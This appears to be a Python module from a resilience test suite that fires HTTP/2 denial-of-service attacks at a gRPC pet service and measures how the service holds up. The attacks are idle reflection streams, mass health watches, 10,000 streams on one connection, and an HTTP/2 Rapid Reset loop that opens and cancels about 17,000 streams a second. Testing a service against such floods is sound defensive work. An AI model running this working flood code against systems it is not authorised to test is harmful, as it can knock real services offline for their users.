"""Streams that are opened in great numbers, and do nothing or are reset."""

import asyncio
import struct

from hyperframe.frame import SettingsFrame

from attacks.attack import Attack, Scene
from attacks.http2 import Connection, frame, grpc_fields, opened

__all__ = ["ATTACKS"]

_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_WATCH = "/grpc.health.v1.Health/Watch"
_GET = "/pawport.v1.PetService/GetPet"
_STREAMS = 100  # of a connection
_RESETTERS = 4  # connections
_TICK = 0.02  # seconds
_CANCEL = struct.pack(">I", 8)


async def _reflection(scene: Scene) -> None:
    """Streams of reflection on which nothing is asked."""
    await asyncio.gather(*(_idle(scene, size, _REFLECTION) for size in scene.shares(scene.size // _STREAMS)))


async def _watches(scene: Scene) -> None:
    """Watches of the health."""
    await asyncio.gather(
        *(_idle(scene, size, _WATCH, bytes(0)) for size in scene.shares(scene.size // _STREAMS))
    )


async def _idle(scene: Scene, size: int, path: str, message: bytes | None = None) -> None:
    scene.counts["sent"] += size
    try:
        await _open_and_wait(scene, size, path, message)
    except OSError as error:
        scene.not_connected(error)


async def _open_and_wait(scene: Scene, size: int, path: str, message: bytes | None) -> None:
    async with opened(scene) as connection:
        for _ in range(size):
            fields = grpc_fields(scene, path)
            if message is None:
                connection.open_stream(fields)
            else:
                connection.call(fields, message)
        await connection.drain()
        await asyncio.sleep(scene.remaining)
        scene.counts.update(connection.outcomes())
        scene.counts["answered"] += sum(stream.received > 0 for stream in connection.streams.values())


async def _rapid_reset(scene: Scene) -> None:
    """Opens calls, and resets each at once. A connection that is ended is made again."""
    await asyncio.gather(*(_resetter(scene, size) for size in scene.shares(_RESETTERS)))


async def _resetter(scene: Scene, each_second: int) -> None:
    while not scene.over:
        try:
            async with opened(scene, keeps_streams=False) as connection:
                scene.counts["connections"] += 1
                await _reset_until_closed(scene, connection, each_second)
                scene.counts["goaway"] += connection.going_away is not None
        except OSError as error:
            scene.not_connected(error)
            await asyncio.sleep(0.1)


async def _reset_until_closed(scene: Scene, connection: Connection, each_second: int) -> None:
    fields = grpc_fields(scene, _GET)
    connection.open_stream(fields, end=True)  # the headers are a few bytes from now on
    block = connection.headers(fields)
    while not (scene.over or connection.closed or connection.going_away is not None):
        number = int(each_second * _TICK)
        streams = [connection.new_stream() for _ in range(number)]
        connection.send(b"".join(frame(1, 0x5, one, block) + frame(3, 0, one, _CANCEL) for one in streams))
        scene.counts["sent"] += number
        await connection.drain()
        await asyncio.sleep(_TICK)


async def _many(scene: Scene) -> None:
    """Calls without a message, all of them on one connection, however many the service allows."""
    fields = grpc_fields(scene, _GET)
    async with opened(scene) as connection:
        scene.counts["allowed"] = 0
        for number in range(scene.size):
            connection.open_stream(fields)
            scene.counts["sent"] += 1
            if number % 100 == 99:
                await connection.drain()
                await asyncio.sleep(0.01)
        await asyncio.sleep(scene.remaining)
        scene.counts.update(connection.outcomes())
        scene.counts["allowed"] = connection.settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, 0)
        scene.counts["connection closed"] += connection.closed


ATTACKS = [
    Attack(
        "reflection", "300 idle streams of reflection, without a key", _reflection, 300, short=200, fresh=True
    ),
    Attack(
        "watches",
        "4,000 idle health watches: less than 10 % of a processor",
        _watches,
        4000,
        max_cpu=0.10,
        seconds=8,
    ),
    Attack(
        "many-streams", "10,000 calls without a key and a message, at once on one connection", _many, 10_000
    ),
    Attack(
        "rapid-reset",
        "17,000 streams a second, opened and reset at once on 4 connections, without a key",
        _rapid_reset,
        17_000,
        a_second=True,
    ),
]
